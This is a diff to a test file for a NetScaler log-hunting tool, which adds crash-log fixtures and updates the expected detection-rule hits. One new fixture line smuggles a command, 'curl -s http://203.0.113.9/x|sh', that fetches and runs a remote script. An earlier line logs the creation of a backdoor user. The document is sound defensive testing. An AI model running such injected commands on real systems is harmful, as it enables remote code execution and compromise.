@@ -34,6 +34,8 @@ describe.each(engines)('hunt on $name', (engine) => {
         aaa(Buffer.from('alice')), // an ordinary rejection: not one
         Buffer.from('<134> 07/15/2025:06:00:00 GMT ns-gw-01 0-PPE-0 : default CLI CMD_EXECUTED 6870 0 :  User nsroot - ADM_User NONE - Remote_ip 127.0.0.1 - Command "add system user backdoor secret" - Status "Success"\n'),
         Buffer.from('<134> 07/15/2025:06:01:00 GMT ns-gw-01 0-PPE-0 : default CLI CMD_EXECUTED 6871 0 :  User nsroot - ADM_User NONE - Remote_ip 10.0.0.5 - Command "show ns license" - Status "Success"\n'),
+        Buffer.from('Jul 15 04:00:00 ns-gw-01 pitboss[123]: NSPPE-00 (12345) unexpectedly died\n'), // a crash: NS-R11
+        Buffer.from('Jul 15 04:10:00 ns-gw-01 pitboss[123]: ppe NSPPE-01 unexpectedly died nsppe;curl -s http://203.0.113.9/x|sh\n'), // poisoned: NS-R3 (and NS-R11)
       ]),
     );
     await writeFile(
@@ -52,7 +54,7 @@ describe.each(engines)('hunt on $name', (engine) => {
     expect(run.code).toBe(0);
     const report = JSON.parse(run.stdout) as Report;
     const hits = Object.fromEntries(report.summary.map((r) => [r.ruleId, `${r.verdict} ${r.hits}`]));
-    expect(hits).toEqual({ 'NS-R1': 'ATTEMPT 1', 'NS-R8-webshell': 'COMPROMISE 1', 'NS-R8': 'REVIEW 1', 'NS-R9': 'REVIEW 1', 'NS-R10': 'COMPROMISE 1' });
+    expect(hits).toEqual({ 'NS-R1': 'ATTEMPT 1', 'NS-R3': 'ATTEMPT 1', 'NS-R8-webshell': 'COMPROMISE 1', 'NS-R8': 'REVIEW 1', 'NS-R9': 'REVIEW 1', 'NS-R10': 'COMPROMISE 1', 'NS-R11': 'REVIEW 2' });
     expect(report.summary.find((r) => r.ruleId === 'NS-R1')?.first).toBe('2025-07-15T05:52:39.000Z');
     expect(report.errors).toEqual([]);
 
@@ -91,9 +93,10 @@ describe.each(engines)('hunt on $name', (engine) => {
     expect(sigma.map((r) => `${r.verdict} ${r.hits} ${r.first}`)).toEqual(['REVIEW 1 2025-07-15T06:00:00.000Z']);
     const text = await cli(['-w', t.ws, 'hunt', '--rules', rules], { env: t.env });
     // Built-in: the row rules plus the stateful NS-R2, NS-R4 and the two kinds of NS-R5; the added log
-    // folder is a collected tree, so the eight triage rules without IOCs ran over it too.
+    // folder is a collected tree, so the nine triage rules without IOCs (R11's crash dumps, R12–R20
+    // but R17) ran over it too.
     const builtin = NETSCALER_LOG_RULES.length + 4;
-    expect(text.stdout).toContain(`${builtin + 8 + 1} rules run (${builtin} built-in log rules, 8 triage, 1 Sigma, 0 Sigma correlations), 1 failed, 1 not applicable, 0 refused by the engine`);
+    expect(text.stdout).toContain(`${builtin + 9 + 1} rules run (${builtin} built-in log rules, 9 triage, 1 Sigma, 0 Sigma correlations), 1 failed, 1 not applicable, 0 refused by the engine`);
   });
 
   it('tunes Sigma rules with filter rules, and reports filters that tune nothing', async () => {
